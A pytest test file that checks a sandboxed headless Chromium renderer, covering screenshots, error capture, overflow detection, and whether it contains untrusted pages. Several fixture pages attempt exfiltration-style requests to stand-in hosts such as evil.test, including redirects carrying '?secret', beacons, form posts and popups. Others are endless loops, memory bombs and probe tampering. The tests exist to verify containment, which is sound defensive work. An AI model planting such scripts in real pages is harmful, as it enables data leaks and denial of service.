"""The worker browser against pages that mean harm or are merely broken; each must leave the next one untouched."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from checks import chromium as starting
from checks import pictures, watchdog
from checks.browser import Browser, BrowserLost
from checks.rendering import MAX_LOG_BYTES, MAX_LOG_ITEMS, Region, Rendering

pytestmark = pytest.mark.browser

ONE = (1280,)


def show(browser: Browser, html: str, widths: tuple[int, ...] = ONE, **more: object) -> Rendering:
    return browser.render({"index.html": html}, "html", widths, **more)  # type: ignore[arg-type]  # script or screenshots


def kinds(seen: Rendering) -> set[str]:
    return {item.kind for item in seen.blocked}


def test_three_widths_with_pictures(chromium: Browser) -> None:
    seen = show(chromium, "<h1>Hello</h1><p>there", (1280, 768, 375))
    assert not any((seen.hung, seen.left, seen.blank, seen.errors, seen.blocked))
    assert [seen.shots[width].text_length for width in (1280, 768, 375)] == [12, 12, 12]
    for width, shot in seen.shots.items():
        assert shot.png.startswith(b"\x89PNG")
        assert int.from_bytes(shot.png[16:20]) == width
    assert 0 < (seen.settle_ms or 0) < 10_000


def test_errors_and_the_console_are_told_apart(chromium: Browser) -> None:
    seen = show(
        chromium,
        "<p>x<script>console.error('bad thing'); console.log('chatter');"
        "setTimeout(() => { throw new TypeError('oops') }); Promise.reject(new Error('rejected'))</script>",
    )
    assert {message.text for message in seen.errors} == {"TypeError: oops", "rejected"}
    assert [message.text for message in seen.console if message.kind == "error"] == ["bad thing"]


def test_an_error_is_placed_where_its_author_has_it(chromium: Browser) -> None:
    seen = chromium.render(
        {
            "index.html": "<!doctype html>\n<p>x</p>\n<script>\nconst here = 1;\nnope()</script>\n"
            "<script>const broken = ;</script>\n<button onclick='gone()'>x</button><script src='my%20part.js'></script>\n"
            "<script>document.querySelector('button').click()</script>",
            "my part.js": "\nsetTimeout(() => lost())",
        },
        "html",
        ONE,
    )
    assert {(message.text, message.path, message.line) for message in seen.errors} == {
        ("ReferenceError: nope is not defined", "index.html", 5),
        ("SyntaxError: Unexpected token ';'", "", None),
        ("ReferenceError: gone is not defined", "", None),
        ("ReferenceError: lost is not defined", "my part.js", 2),
    }


def test_blank_is_one_colour_without_text(chromium: Browser) -> None:
    assert show(chromium, "<body style='background:#123'></body>").blank
    assert not show(chromium, "<body><div style='width:99px;height:99px;background:red'></div></body>").blank


def test_overflow_names_the_element(chromium: Browser) -> None:
    seen = show(chromium, "<body style='margin:0'><div id='wide' style='width:900px'>wide</div>", (1280, 375))
    assert seen.shots[1280].overflow_px == 0
    assert (seen.shots[375].overflow_px, seen.shots[375].overflow_selector) == (525, "#wide")
    assert (
        show(chromium, "<body style='overflow-x:hidden'><div style='width:2900px'>w").shots[1280].overflow_px
        == 0
    )


def test_a_page_that_reads_the_width_is_loaded_at_each(chromium: Browser) -> None:
    seen = show(
        chromium, "<p id=p><script>p.textContent = 'x'.repeat(innerWidth / 100)</script>", (1280, 375)
    )
    assert [seen.shots[width].text_length for width in (1280, 375)] == [12, 3]


def test_nothing_gets_out(chromium: Browser) -> None:
    seen = show(
        chromium,
        "<h1>x</h1><img src='https://a.test/i.png'><link rel=stylesheet href='http://127.0.0.1:8000/s.css'>"
        "<script>fetch('https://b.test/').catch(() => 0); new WebSocket('wss://c.test/');"
        "new Image().src = 'http://localhost:8000/admin/'; navigator.sendBeacon('https://d.test/', 'x')</script>",
    )
    assert not seen.hung
    assert not seen.left
    assert seen.shots[1280].text_length == 1


@pytest.mark.parametrize(
    "code",
    [
        "<script>location = 'https://evil.test/?secret'</script>",
        "<script>location.reload()</script>",
        "<script>addEventListener('load', () => setTimeout(() => location = 'https://evil.test/', 5))</script>",
        "<script>location = URL.createObjectURL(new Blob(['<h1>gone</h1>'], {type: 'text/html'}))</script>",
    ],
)
def test_a_page_that_leaves_is_caught(chromium: Browser, code: str) -> None:
    seen = show(chromium, f"<h1>x</h1>{code}")
    assert seen.left
    assert not seen.hung


def test_a_meta_refresh_is_named(chromium: Browser) -> None:
    seen = show(chromium, "<meta http-equiv=refresh content='0;url=https://evil.test/'><h1>x</h1>")
    assert seen.problems[0].path == "index.html"
    assert "elsewhere" in seen.problems[0].message


def test_popups_dialogs_downloads_and_forms_go_nowhere(chromium: Browser) -> None:
    seen = show(
        chromium,
        "<h1>x</h1><form action='https://evil.test/f' method=post></form><a download href='data:,x' id=a></a><script>"
        "alert(1); confirm(2); prompt(3); open('https://evil.test/'); document.forms[0].submit(); a.click()</script>",
    )
    assert not any((seen.hung, seen.left))
    assert seen.shots[1280].text_length == 1


def test_floods_are_capped(chromium: Browser) -> None:
    seen = show(
        chromium,
        "<h1>x</h1><script>for (let i = 0; i < 1e5; i++) console.log(i + 'x'.repeat(1e4));"
        "for (let i = 0; i < 2e3; i++) setTimeout(() => { throw new Error('e' + i) })</script>",
    )
    assert not seen.hung
    assert len(seen.errors) + len(seen.console) <= MAX_LOG_ITEMS
    assert sum(len(message.text) for message in (*seen.errors, *seen.console)) <= MAX_LOG_BYTES
    assert seen.dropped > 0


def test_giant_pages_give_clipped_pictures(chromium: Browser) -> None:
    seen = show(chromium, "<div style='height:90000px;background:linear-gradient(red,blue)'>tall")
    assert int.from_bytes(seen.shots[1280].png[20:24]) == 8_000


def test_the_probe_is_out_of_the_pages_reach(chromium: Browser) -> None:
    seen = show(
        chromium,
        "<h1>x</h1><script>Array.prototype.map = Object.keys = JSON.stringify = Promise.race = () => { throw 1 };"
        "Object.defineProperty(document.documentElement, 'scrollHeight', { get() { throw 2 } });"
        "window.hillclimbProbe = 3; MutationObserver = performance.now = getComputedStyle = null</script>",
        script="typeof hillclimbProbe.settle",
    )
    assert seen.result == "function"
    assert seen.shots[1280].text_length == 1


@pytest.mark.parametrize(
    "code",
    [
        "document.documentElement.remove()",
        "document.body.remove()",
        "document.open(); document.write('again'); document.close()",
        "setInterval(() => document.body.append(document.createElement('p')))",
        "document.body.innerHTML = '<div>'.repeat(20000)",
        "history.pushState({}, '', '#a'); location.hash = 'b'",
    ],
)
def test_pages_that_take_themselves_apart_are_still_judged(chromium: Browser, code: str) -> None:
    seen = show(chromium, f"<h1>x</h1><script>addEventListener('load', () => {{ {code} }})</script>")
    assert not any((seen.hung, seen.left))
    assert seen.shots[1280].png


def test_endless_loops_are_stopped_and_the_next_page_is_fine(chromium: Browser) -> None:
    with Browser.launch(chromium.build_dir, budget_s=6.0) as browser:
        for code in ("for (;;) alert(1)", "setTimeout(() => { for (;;); }, 30)"):
            seen = show(browser, f"<h1>x</h1><script>{code}</script>")
            assert seen.hung
            assert seen.why == "time"
        assert show(browser, "<h1>fine</h1>").shots[1280].text_length == 4


def test_memory_is_capped(chromium: Browser) -> None:
    heap = show(
        chromium, "<script>const a = []; for (;;) a.push(new Array(1e6).fill(Math.random()))</script>"
    )
    assert (heap.hung, heap.why) in ((True, "crash"), (True, "memory"))
    buffers = show(chromium, "<script>const a = []; for (;;) a.push(new Uint8Array(1e8).fill(1))</script>")
    assert buffers.hung
    assert buffers.why in ("memory", "crash", "time")
    assert not show(chromium, "<h1>fine</h1>").hung


def test_pictures_are_compared(chromium: Browser) -> None:
    red, blue = (
        show(chromium, f"<body style='background:{colour}'>").shots[1280].png for colour in ("red", "blue")
    )
    small = show(
        chromium,
        "<body style='background:red'><i style='position:absolute;left:0;top:0;width:64px;height:16px;background:blue'>",
    )
    assert pictures.compare(red, red).share == 0
    assert pictures.compare(red, blue).share == 1
    changed = pictures.compare(red, small.shots[1280].png)
    assert changed.share == pytest.approx(64 * 16 / (1280 * 800), rel=0.01)
    assert changed.regions == (Region(0, 0, 64, 16),)
    assert pictures.uniform(red)
    assert not pictures.uniform(small.shots[1280].png)


def test_the_same_page_gives_the_same_picture(chromium: Browser) -> None:
    html = (
        "<style>@keyframes k{to{transform:translateX(99px)}} b{animation:k 1s infinite;display:block}</style><b>go</b>"
        "<canvas id=c></canvas><script>const g = c.getContext('2d');"
        "for (let i = 0; i < 99; i++) g.fillRect(Math.random() * 300, Math.random() * 150, 3, 3)</script>"
    )
    first, second = (show(chromium, html).shots[1280].png for _ in range(2))
    assert first == second


def test_nothing_is_left_behind(chromium: Browser) -> None:
    with Browser.launch(chromium.build_dir) as browser:
        folder, leader, uid = browser._folder, browser._leader, browser._uid
        assert folder is not None
        assert watchdog.family(leader, uid)
        if os.geteuid() == 0:
            assert uid is not None
            assert all(Path(f"/proc/{pid}").stat().st_uid == uid for pid in watchdog.family(leader, uid))
            assert "--no-sandbox" not in Path(f"/proc/{leader}/cmdline").read_text()
            assert "SECRET" not in Path(f"/proc/{leader}/environ").read_text()
    assert not watchdog.family(leader, uid)
    assert not folder.exists()


def test_a_killed_browser_is_infrastructure_not_the_pages_fault(chromium: Browser) -> None:
    with Browser.launch(chromium.build_dir) as browser:
        watchdog.end(browser._leader, browser._uid)
        assert not browser.healthy()
        # It is started anew by itself.
        assert not show(browser, "<h1>x</h1>").hung
        assert browser.healthy()
        browser.close()
        with pytest.raises(BrowserLost):
            show(browser, "<h1>x</h1>")


def test_a_missing_chromium_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHROMIUM", "/nowhere/chromium")
    starting.find.cache_clear()
    try:
        with pytest.raises(starting.ChromiumMissing, match="CHROMIUM names /nowhere/chromium"):
            starting.find()
    finally:
        starting.find.cache_clear()
